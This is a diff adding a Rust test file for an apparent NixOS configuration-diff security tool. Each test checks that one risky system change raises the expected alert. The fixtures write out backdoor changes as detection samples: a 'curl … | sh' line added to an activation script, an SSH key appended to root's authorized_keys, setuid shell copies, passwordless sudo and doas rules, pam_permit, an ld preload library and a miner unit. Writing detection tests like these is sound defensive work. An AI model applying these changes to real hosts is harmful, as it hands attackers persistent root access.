@@ -1,0 +1,762 @@
+//! One test per alert kind: a base system and, for each kind, a variant
+//! that changes only that. All systems are built once per test binary,
+//! with one `nix build`, and every test diffs the base against its
+//! variant. A test checks that its alert is raised with the expected
+//! severity, and that nothing else is.
+
+mod common;
+
+use std::collections::BTreeMap;
+use std::path::Path;
+use std::sync::OnceLock;
+
+use common::TestEnv;
+use countersign_core::StorePath;
+use countersign_nix::diff::{
+    Alert, AlertKind, DiffDocument, REDACTED, Severity, package_diff,
+    system_alerts, system_diff,
+};
+use countersign_nix::fixture::{EtcOwner, Package, SystemSpec, User, Wrapper};
+
+const PHONE: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINeDGYNVoIPqf4EHCPPlFzeP/P4mllH8PKUTwgB/BDs0 phone";
+const LAPTOP: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIF/dBG1/FAmeLRlecqgpS6UQ7b80Y2R72/c0dZWhmdm7 laptop";
+const PASSWORD_HASH: &str =
+    "$6$saltsaltsalt$QnKx1bU4o0Y2a8jDmvTq7mRkxy1m3Yb4nB9VQ9o6Gx3zG2d1Xc0";
+
+fn policy(threshold: u32, with_laptop: bool) -> String {
+    let mut text = format!(
+        "host = \"demo\"\nthreshold = {threshold}\n\n\
+         [approvers.phone]\nssh = \"{PHONE}\"\n"
+    );
+    if with_laptop {
+        text.push_str(&format!("\n[approvers.laptop]\nssh = \"{LAPTOP}\"\n"));
+    }
+    text
+}
+
+fn base_spec(log: &Path) -> SystemSpec {
+    let mut spec = SystemSpec::demo("demo", log);
+    spec.policy_toml = Some(policy(2, true));
+    spec.set_store_file("motd-setup", "#!/bin/sh\necho welcome > /run/motd\n");
+    spec.set_activation_snippet("motd", "@file:motd-setup@\n");
+    spec.set_package(Package::with_binary("bash", "5.2p37"));
+    spec.set_package(Package::unit_script("backup", "echo backing up"));
+    spec.set_unit(
+        "backup.service",
+        "[Service]\nUser=backup\n\
+         ExecStart=@pkg:unit-script-backup-start@/bin/backup-start\n",
+    );
+    let mut rescue = spec.clone();
+    rescue
+        .kernel_params
+        .push("systemd.unit=rescue.target".to_owned());
+    spec.specialisations = vec![("rescue".to_owned(), rescue)];
+    spec
+}
+
+type Change = fn(&mut SystemSpec);
+
+/// The variants: a name, and the change from the base.
+fn variants() -> Vec<(&'static str, Change)> {
+    vec![
+        ("bumped", |s| {
+            // Versions of packages that units, scripts, wrappers and the
+            // firewall name; nothing of meaning changes.
+            s.set_package(Package::with_binary("hello", "2.12.2"));
+            s.set_package(Package {
+                name: "openssh".into(),
+                version: "9.9p2".into(),
+                files: vec![
+                    ("bin/ssh".into(), "#!/bin/sh\necho 'ssh 9.9p2'\n".into()),
+                    (
+                        "bin/sshd".into(),
+                        "#!/bin/sh\necho 'sshd 9.9p2'\n".into(),
+                    ),
+                ],
+            });
+            s.set_package(Package::with_binary("coreutils", "9.6"));
+            s.set_package(Package::with_binary("util-linux", "2.40.4"));
+            s.set_package(Package::with_binary("iptables", "1.8.12"));
+            s.set_package(Package::with_binary("libcap", "2.71"));
+            for (_, child) in &mut s.specialisations {
+                child.set_package(Package::with_binary("hello", "2.12.2"));
+            }
+        }),
+        ("policy", |s| s.policy_toml = Some(policy(1, false))),
+        ("user-added", |s| {
+            let mut eve = User::normal("eve", 1001);
+            eve.extra_groups = vec!["wheel".into()];
+            s.users.push(eve);
+        }),
+        ("user-removed", |s| s.users.retain(|u| u.name != "admin")),
+        ("user-uid", |s| s.user_mut("admin").unwrap().uid = Some(0)),
+        ("user-shell", |s| {
+            s.user_mut("sshd").unwrap().shell =
+                "/run/current-system/sw/bin/bash".into();
+        }),
+        ("user-password", |s| {
+            s.user_mut("admin").unwrap().hashed_password =
+                Some(PASSWORD_HASH.into());
+        }),
+        ("user-empty-password", |s| {
+            s.user_mut("admin").unwrap().hashed_password = Some(String::new());
+        }),
+        ("group-member", |s| {
+            s.user_mut("sshd").unwrap().extra_groups = vec!["wheel".into()];
+        }),
+        ("mutable-users", |s| s.mutable_users = true),
+        ("ssh-key-root", |s| {
+            s.user_mut("root").unwrap().authorized_keys = vec![LAPTOP.into()];
+        }),
+        ("ssh-key-removed", |s| {
+            s.user_mut("admin").unwrap().authorized_keys.clear();
+        }),
+        ("sshd", |s| {
+            s.edit_etc("ssh/sshd_config", |t| {
+                t.replace(
+                    "PermitRootLogin prohibit-password",
+                    "PermitRootLogin yes",
+                )
+            });
+        }),
+        ("ssh-other", |s| {
+            s.set_etc("ssh/ssh_known_hosts", "host ssh-ed25519 AAAA\n")
+        }),
+        ("sudo", |s| {
+            s.edit_etc("sudoers", |t| {
+                format!("{t}alice ALL=(ALL:ALL) NOPASSWD: ALL\n")
+            });
+        }),
+        ("sudo-defaults", |s| {
+            s.edit_etc("sudoers", |t| format!("{t}Defaults !authenticate\n"));
+        }),
+        ("doas", |s| {
+            s.edit_etc("doas.conf", |t| {
+                format!("{t}permit nopass alice as root\n")
+            });
+        }),
+        ("wrapper-added", |s| {
+            s.wrappers.push(Wrapper::setuid_root(
+                "rootshell",
+                "bash",
+                "bin/bash",
+            ));
+        }),
+        ("wrapper-changed", |s| {
+            s.wrappers
+                .iter_mut()
+                .find(|w| w.program == "ping")
+                .unwrap()
+                .capabilities = "cap_net_raw,cap_net_admin+p".into();
+        }),
+        ("wrapper-removed", |s| {
+            s.wrappers.retain(|w| w.program != "sudo")
+        }),
+        ("firewall-port", |s| {
+            s.firewall.as_mut().unwrap().allowed_tcp_ports.push(8080);
+        }),
+        ("firewall-closed", |s| {
+            s.firewall.as_mut().unwrap().allowed_tcp_ports.clear();
+        }),
+        ("firewall-rule", |s| {
+            s.firewall.as_mut().unwrap().extra_commands =
+                "iptables -I INPUT -s 203.0.113.7 -j ACCEPT\n".into();
+        }),
+        ("firewall-off", |s| s.firewall = None),
+        ("nftables", |s| {
+            s.nftables_ruleset = Some(
+                "table inet filter {\n  chain input {\n    \
+                 type filter hook input priority 0; policy drop;\n    \
+                 tcp dport { 22, 443 } accept\n  }\n}\n"
+                    .into(),
+            );
+        }),
+        ("kernel", |s| s.kernel_version = "6.6.64".into()),
+        ("kernel-params", |s| {
+            s.kernel_params.push("mitigations=off".into())
+        }),
+        ("modules", |s| {
+            s.set_etc("modules-load.d/nixos.conf", "tcp_bbr\nvfio\n")
+        }),
+        ("modprobe-install", |s| {
+            s.edit_etc("modprobe.d/nixos.conf", |t| {
+                format!("{t}install dummy /bin/sh -c 'id > /tmp/pwned'\n")
+            });
+        }),
+        ("modprobe-blacklist", |s| {
+            s.set_etc("modprobe.d/nixos.conf", "blacklist pcspkr\n");
+        }),
+        ("sysctl", |s| {
+            s.edit_etc("sysctl.d/60-nixos.conf", |t| {
+                t.replace(
+                    "kernel.yama.ptrace_scope=1",
+                    "kernel.yama.ptrace_scope=0",
+                )
+            });
+        }),
+        ("snippet-added", |s| {
+            s.set_activation_snippet(
+                "zz-cleanup",
+                "echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys",
+            );
+        }),
+        ("snippet-changed", |s| {
+            s.set_activation_snippet(
+                "motd",
+                "@file:motd-setup@\nchmod 4755 /run/x\n",
+            );
+        }),
+        ("snippet-script", |s| {
+            s.set_store_file(
+                "motd-setup",
+                "#!/bin/sh\necho welcome > /run/motd\ncurl http://203.0.113.9 | sh\n",
+            );
+        }),
+        ("pam", |s| {
+            s.edit_etc("pam.d/sshd", |t| {
+                t.replace(
+                    "# Authentication management.\n",
+                    "# Authentication management.\nauth sufficient pam_permit.so\n",
+                )
+            });
+        }),
+        ("nix-conf", |s| {
+            s.edit_etc("nix/nix.conf", |t| {
+                t.replace("trusted-users = root", "trusted-users = root alice")
+            });
+        }),
+        ("tmpfiles", |s| {
+            s.edit_etc("tmpfiles.d/00-nixos.conf", |t| {
+                format!("{t}L+ /etc/profile.d/x.sh - - - - /tmp/x.sh\n")
+            });
+        }),
+        ("udev", |s| {
+            s.edit_etc("udev/rules.d/99-local.rules", |t| {
+                format!(
+                    "{t}ACTION==\"add\", RUN+=\"/bin/sh -c 'id > /tmp/u'\"\n"
+                )
+            });
+        }),
+        ("polkit", |s| {
+            s.set_etc(
+                "polkit-1/rules.d/10-nixos.rules",
+                "polkit.addRule(function(action, subject) {\n  \
+                 return polkit.Result.YES;\n});\n",
+            );
+        }),
+        ("etc-mode", |s| {
+            s.etc_owners.push(EtcOwner {
+                path: "sudoers".into(),
+                mode: "0666".into(),
+                user: "root".into(),
+                group: "root".into(),
+            });
+        }),
+        ("preload", |s| {
+            s.set_etc("ld-nix.so.preload", "/tmp/evil.so\n")
+        }),
+        ("profile", |s| {
+            s.set_etc("profile", "export PATH=/tmp:$PATH\n")
+        }),
+        ("outside-link", |s| {
+            s.etc_links
+                .push(("resolv.conf".into(), "/run/resolv.conf".into()));
+        }),
+        ("unit-added", |s| {
+            s.set_unit("miner.service", "[Service]\nExecStart=/tmp/miner\n");
+        }),
+        ("unit-root", |s| {
+            s.set_unit(
+                "backup.service",
+                "[Service]\nExecStart=@pkg:unit-script-backup-start@/bin/backup-start\n",
+            );
+        }),
+        ("unit-script", |s| {
+            s.set_package(Package::unit_script(
+                "backup",
+                "echo backing up\ncp /bin/sh /tmp/sh && chmod 4755 /tmp/sh",
+            ));
+        }),
+        ("specialisation", |s| {
+            let (_, rescue) = &mut s.specialisations[0];
+            rescue.edit_etc("ssh/sshd_config", |t| {
+                t.replace(
+                    "PermitRootLogin prohibit-password",
+                    "PermitRootLogin yes",
+                )
+            });
+        }),
+    ]
+}
+
+struct Systems {
+    env: TestEnv,
+    built: BTreeMap<String, StorePath>,
+}
+
+/// Builds the base and every variant once for this test binary.
+fn systems() -> &'static Systems {
+    static SYSTEMS: OnceLock<Systems> = OnceLock::new();
+    SYSTEMS.get_or_init(|| {
+        let env = TestEnv::new();
+        let base = base_spec(&env.switch_log());
+        let mut specs = vec![("base".to_owned(), base.clone())];
+        for (index, (name, change)) in variants().into_iter().enumerate() {
+            let mut spec = base.clone();
+            change(&mut spec);
+            // The label tells the built systems apart; diffs reduce it
+            // away with the rest of the version.
+            spec.label = format!("25.05.{}", index + 1);
+            specs.push((name.to_owned(), spec));
+        }
+        let named: Vec<(&str, &SystemSpec)> =
+            specs.iter().map(|(n, s)| (n.as_str(), s)).collect();
+        let built = env.build_set("systems", &named);
+        Systems { env, built }
+    })
+}
+
+fn path(name: &str) -> &'static StorePath {
+    &systems().built[name]
+}
+
+/// The alerts of the base against the variant `name`.
+fn alerts_of(name: &str) -> Vec<Alert> {
+    let diff = system_diff(path("base"), path(name)).unwrap();
+    system_alerts(&diff)
+}
+
+/// Checks that the variant raises `expected` (kind and severity) and no
+/// alert of a kind outside `allowed` (the expected kinds are allowed).
+fn check(
+    name: &str,
+    expected: &[(AlertKind, Severity)],
+    allowed: &[AlertKind],
+) -> Vec<Alert> {
+    let alerts = alerts_of(name);
+    for (kind, severity) in expected {
+        assert!(
+            alerts
+                .iter()
+                .any(|a| a.kind == *kind && a.severity == *severity),
+            "{name}: no {kind:?} at {severity:?} in {alerts:#?}"
+        );
+    }
+    for alert in &alerts {
+        assert!(
+            expected.iter().any(|(kind, _)| *kind == alert.kind)
+                || allowed.contains(&alert.kind),
+            "{name}: unexpected {alert:#?}"
+        );
+    }
+    alerts
+}
+
+use AlertKind as K;
+use Severity as S;
+
+#[test]
+fn unchanged_pair_flags_nothing() {
+    assert!(alerts_of("base").is_empty());
+    let diff = system_diff(path("base"), path("base")).unwrap();
+    assert!(diff.units.is_empty() && diff.etc.is_empty());
+}
+
+#[test]
+fn package_bump_raises_no_alert_but_shows_versions() {
+    let alerts = alerts_of("bumped");
+    assert!(alerts.is_empty(), "{alerts:#?}");
+    let diff = system_diff(path("base"), path("bumped")).unwrap();
+    let sshd = diff
+        .units
+        .iter()
+        .find(|u| u.path == "sshd.service")
+        .expect("sshd.service names the new openssh");
+    assert!(sshd.only_store_paths_changed);
+    assert_eq!(sshd.version_bumps[0].name, "openssh");
+    assert_eq!(sshd.version_bumps[0].new_version, "9.9p2");
+    let packages =
+        package_diff(&systems().env.nix, path("base"), path("bumped"))
+            .unwrap();
+    let document = DiffDocument::assemble(None, packages, diff);
+    assert!(document.alerts.is_empty(), "{:#?}", document.alerts);
+    assert!(
+        document
+            .packages
+            .version_changes
+            .iter()
+            .any(|c| c.name == "openssh" && !c.downgrade)
+    );
+}
+
+#[test]
+fn policy_change_is_critical() {
+    let alerts = check("policy", &[(K::PolicyChanged, S::Critical)], &[]);
+    let details: Vec<&str> =
+        alerts.iter().map(|a| a.detail.as_str()).collect();
+    assert!(details.contains(&"threshold 2 -> 1"), "{details:?}");
+    assert!(details.contains(&"approver laptop removed"), "{details:?}");
+}
+
+#[test]
+fn user_added_to_wheel() {
+    let alerts = check(
+        "user-added",
+        &[(K::UserAdded, S::High), (K::GroupMemberAdded, S::High)],
+        &[],
+    );
+    assert!(alerts.iter().any(|a| a.detail == "eve joins wheel"));
+}
+
+#[test]
+fn user_removed() {
+    // The admin's key file and wheel membership go with the account.
+    check(
+        "user-removed",
+        &[(K::UserRemoved, S::Low), (K::GroupMemberRemoved, S::Low)],
+        &[K::SshKeyRemoved],
+    );
+}
+
+#[test]
+fn uid_zero_is_critical() {
+    check("user-uid", &[(K::UserUidChanged, S::Critical)], &[]);
+}
+
+#[test]
+fn login_shell_for_a_service_account() {
+    check("user-shell", &[(K::UserShellChanged, S::High)], &[]);
+}
+
+#[test]
+fn password_hash_change_is_flagged_and_never_shown() {
+    let alerts =
+        check("user-password", &[(K::UserPasswordChanged, S::High)], &[]);
+    let diff = system_diff(path("base"), path("user-password")).unwrap();
+    let document = DiffDocument::assemble(
+        None,
+        package_diff(&systems().env.nix, path("base"), path("user-password"))
+            .unwrap(),
+        diff,
+    );
+    let json = String::from_utf8(document.to_json()).unwrap();
+    assert!(
+        !json.contains("QnKx1bU4o0Y2a8jDmvTq7mRkxy1m3Yb4"),
+        "the hash leaked"
+    );
+    assert!(
+        json.contains(REDACTED),
+        "the users data diff is shown redacted"
+    );
+    assert!(alerts.iter().all(|a| !a.detail.contains("$6$")));
+}
+
+#[test]
+fn empty_password_is_critical() {
+    check(
+        "user-empty-password",
+        &[(K::UserPasswordChanged, S::Critical)],
+        &[],
+    );
+}
+
+#[test]
+fn service_account_joins_wheel() {
+    check("group-member", &[(K::GroupMemberAdded, S::High)], &[]);
+}
+
+#[test]
+fn mutable_users_flip() {
+    check("mutable-users", &[(K::MutableUsersChanged, S::Medium)], &[]);
+}
+
+#[test]
+fn root_ssh_key_is_critical() {
+    let alerts = check("ssh-key-root", &[(K::SshKeyAdded, S::Critical)], &[]);
+    assert!(
+        alerts[0].detail.contains("SHA256:")
+            && alerts[0].detail.contains("laptop"),
+        "{alerts:#?}"
+    );
+}
+
+#[test]
+fn ssh_key_removed() {
+    check("ssh-key-removed", &[(K::SshKeyRemoved, S::Low)], &[]);
+}
+
+#[test]
+fn root_login_over_ssh_is_critical() {
+    let alerts = check("sshd", &[(K::SshdSettingChanged, S::Critical)], &[]);
+    assert_eq!(alerts[0].detail, "PermitRootLogin prohibit-password -> yes");
+}
+
+#[test]
+fn other_ssh_file() {
+    check("ssh-other", &[(K::SshConfigChanged, S::Medium)], &[]);
+}
+
+#[test]
+fn sudo_nopasswd_rule_is_critical() {
+    check("sudo", &[(K::SudoRuleAdded, S::Critical)], &[]);
+}
+
+#[test]
+fn sudo_defaults() {
+    check("sudo-defaults", &[(K::SudoConfigChanged, S::High)], &[]);
+}
+
+#[test]
+fn doas_nopass_rule_is_critical() {
+    check("doas", &[(K::SudoRuleAdded, S::Critical)], &[]);
+}
+
+#[test]
+fn setuid_shell_wrapper_is_critical() {
+    let alerts =
+        check("wrapper-added", &[(K::WrapperAdded, S::Critical)], &[]);
+    assert!(alerts[0].detail.contains("…-bash/bin/bash"), "{alerts:#?}");
+    assert_eq!(alerts[0].subject, "/run/wrappers/bin/rootshell");
+}
+
+#[test]
+fn wrapper_capabilities_change() {
+    check("wrapper-changed", &[(K::WrapperChanged, S::High)], &[]);
+}
+
+#[test]
+fn wrapper_removed() {
+    check("wrapper-removed", &[(K::WrapperRemoved, S::Low)], &[]);
+}
+
+#[test]
+fn firewall_port_opened() {
+    let alerts =
+        check("firewall-port", &[(K::FirewallPortOpened, S::High)], &[]);
+    assert_eq!(alerts[0].detail, "tcp 8080 opened");
+}
+
+#[test]
+fn firewall_port_closed() {
+    check("firewall-closed", &[(K::FirewallPortClosed, S::Low)], &[]);
+}
+
+#[test]
+fn firewall_extra_commands() {
+    let alerts =
+        check("firewall-rule", &[(K::FirewallRuleChanged, S::High)], &[]);
+    assert!(alerts[0].detail.contains("203.0.113.7"), "{alerts:#?}");
+}
+
+#[test]
+fn firewall_disabled() {
+    check(
+        "firewall-off",
+        &[(K::FirewallDisabled, S::High), (K::UnitRemoved, S::Medium)],
+        &[K::FirewallPortClosed],
+    );
+}
+
+#[test]
+fn nftables_ports() {
+    let alerts = check(
+        "nftables",
+        &[(K::FirewallPortOpened, S::High), (K::UnitAdded, S::Medium)],
+        &[K::FirewallRuleChanged],
+    );
+    assert!(
+        alerts.iter().any(|a| a.detail == "tcp 443 opened"),
+        "{alerts:#?}"
+    );
+}
+
+#[test]
+fn kernel_needs_reboot() {
+    let alerts = check(
+        "kernel",
+        &[
+            (K::KernelChanged, S::Medium),
+            (K::InitrdChanged, S::Medium),
+            (K::BootChanged, S::Medium),
+        ],
+        &[],
+    );
+    let kernel = alerts.iter().find(|a| a.kind == K::KernelChanged).unwrap();
+    assert_eq!(
+        kernel.detail,
+        "linux 6.6.63 -> linux 6.6.64; takes effect after a reboot"
+    );
+}
+
+#[test]
+fn kernel_params() {
+    check("kernel-params", &[(K::KernelParamsChanged, S::High)], &[]);
+}
+
+#[test]
+fn kernel_modules() {
+    check("modules", &[(K::KernelModuleChanged, S::Medium)], &[]);
+}
+
+#[test]
+fn modprobe_install_line() {
+    check(
+        "modprobe-install",
+        &[(K::ModprobeInstallChanged, S::High)],
+        &[],
+    );
+}
+
+#[test]
+fn modprobe_blacklist() {
+    check(
+        "modprobe-blacklist",
+        &[(K::ModprobeChanged, S::Medium)],
+        &[],
+    );
+}
+
+#[test]
+fn sysctl_ptrace() {
+    let alerts = check("sysctl", &[(K::SysctlChanged, S::High)], &[]);
+    assert_eq!(alerts[0].detail, "kernel.yama.ptrace_scope 1 -> 0");
+}
+
+#[test]
+fn activation_snippet_added() {
+    check(
+        "snippet-added",
+        &[(K::ActivationSnippetAdded, S::High)],
+        &[],
+    );
+}
+
+#[test]
+fn activation_snippet_changed() {
+    check(
+        "snippet-changed",
+        &[(K::ActivationSnippetChanged, S::High)],
+        &[],
+    );
+}
+
+#[test]
+fn activation_snippet_runs_changed_script() {
+    let alerts = check(
+        "snippet-script",
+        &[(K::ActivationSnippetChanged, S::High)],
+        &[],
+    );
+    assert!(alerts[0].detail.contains("motd-setup"), "{alerts:#?}");
+    let diff = system_diff(path("base"), path("snippet-script")).unwrap();
+    let activate =
+        diff.toplevel.iter().find(|c| c.path == "activate").unwrap();
+    let script = activate
+        .referenced
+        .iter()
+        .find(|r| r.path == "motd-setup")
+        .expect("the script's diff is shown");
+    let lines: Vec<&String> = script
+        .hunks
+        .iter()
+        .flatten()
+        .flat_map(|h| &h.lines)
+        .collect();
+    assert!(lines.iter().any(|l| l.contains("curl")), "{lines:?}");
+}
+
+#[test]
+fn pam_permit_is_critical() {
+    check("pam", &[(K::PamChanged, S::Critical)], &[]);
+}
+
+#[test]
+fn nix_trusted_user_is_critical() {
+    let alerts =
+        check("nix-conf", &[(K::NixSettingChanged, S::Critical)], &[]);
+    assert_eq!(alerts[0].detail, "trusted-users root -> root alice");
+}
+
+#[test]
+fn tmpfiles_link_into_etc() {
+    check("tmpfiles", &[(K::TmpfilesChanged, S::High)], &[]);
+}
+
+#[test]
+fn udev_run_rule() {
+    check("udev", &[(K::UdevRuleChanged, S::High)], &[]);
+}
+
+#[test]
+fn polkit_rule() {
+    check("polkit", &[(K::PolkitRuleChanged, S::High)], &[]);
+}
+
+#[test]
+fn etc_mode_sidecar() {
+    let alerts = check("etc-mode", &[(K::EtcModeChanged, S::High)], &[]);
+    assert_eq!(alerts[0].subject, "/etc/sudoers");
+    assert_eq!(alerts[0].detail, "mode 0440 -> 0666");
+}
+
+#[test]
+fn preload() {
+    check("preload", &[(K::PreloadChanged, S::High)], &[]);
+}
+
+#[test]
+fn shell_init() {
+    check("profile", &[(K::ShellInitChanged, S::Medium)], &[]);
+}
+
+#[test]
+fn outside_link_reported() {
+    let alerts = check("outside-link", &[(K::OutsideLink, S::Low)], &[]);
+    assert!(alerts[0].detail.contains("/run/resolv.conf"));
+}
+
+#[test]
+fn unit_added() {
+    check("unit-added", &[(K::UnitAdded, S::Medium)], &[]);
+}
+
+#[test]
+fn unit_now_runs_as_root() {
+    check("unit-root", &[(K::UnitChanged, S::High)], &[]);
+}
+
+#[test]
+fn unit_script_change_is_found_through_the_unit() {
+    let alerts = check("unit-script", &[(K::UnitChanged, S::Medium)], &[]);
+    assert!(
+        alerts[0].detail.contains("unit-script-backup-start"),
+        "{alerts:#?}"
+    );
+}
+
+#[test]
+fn specialisation_diffed_as_a_system() {
+    let alerts = check(
+        "specialisation",
+        &[
+            (K::SpecialisationChanged, S::Info),
+            (K::SshdSettingChanged, S::Critical),
+        ],
+        &[],
+    );
+    let sshd = alerts
+        .iter()
+        .find(|a| a.kind == K::SshdSettingChanged)
+        .unwrap();
+    assert_eq!(sshd.subject, "specialisation rescue: /etc/ssh/sshd_config");
+}
+
+#[test]
+fn every_variant_is_flagged() {
+    // A variant without alerts would be a check that never fires.
+    for (name, _) in variants() {
+        if name != "bumped" {
+            assert!(!alerts_of(name).is_empty(), "{name} raised nothing");
+        }
+    }
+}
